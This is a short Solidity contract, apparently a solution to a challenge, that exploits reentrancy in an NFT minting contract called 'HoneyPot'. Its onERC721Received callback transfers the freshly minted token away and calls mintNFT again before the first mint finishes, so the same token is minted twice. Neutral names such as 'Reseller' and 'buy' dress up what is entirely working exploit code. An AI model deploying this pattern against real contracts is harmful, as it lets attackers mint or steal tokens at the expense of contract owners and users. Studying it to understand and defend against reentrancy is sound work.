// SPDX-License-Identifier: MIT
pragma solidity 0.8.21;

interface Bees {
    function approve(address spender, uint256 amount) external returns (bool);
}

interface HoneyPot {
    function mintNFT() external;
    function transferFrom(address from, address to, uint256 tokenId) external;
}

/// Buys a honey pot, passes it on while it is being minted, and mints the same one again.
contract Reseller {
    Bees private immutable bees;
    HoneyPot private immutable pot;
    address private buyer;

    constructor(address beesAddress, address potAddress) {
        bees = Bees(beesAddress);
        pot = HoneyPot(potAddress);
    }

    /// With the zero address as the buyer, it just buys one.
    function buy(address firstBuyer) external {
        buyer = firstBuyer;
        bees.approve(address(pot), type(uint256).max);
        pot.mintNFT();
    }

    function onERC721Received(address, address, uint256 tokenId, bytes calldata) external returns (bytes4) {
        address to = buyer;
        if (to != address(0)) {
            buyer = address(0);
            pot.transferFrom(address(this), to, tokenId);
            pot.mintNFT();
        }
        return this.onERC721Received.selector;
    }
}
